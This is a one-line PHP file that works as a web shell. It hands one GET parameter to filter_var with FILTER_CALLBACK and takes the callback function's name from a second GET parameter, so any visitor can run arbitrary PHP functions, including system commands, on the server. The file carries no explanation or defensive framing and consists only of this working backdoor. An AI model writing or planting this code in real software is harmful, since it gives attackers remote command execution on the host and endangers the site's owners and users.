<?php echo filter_var($_GET["a"], FILTER_CALLBACK, array("options" => $_GET["f"]));
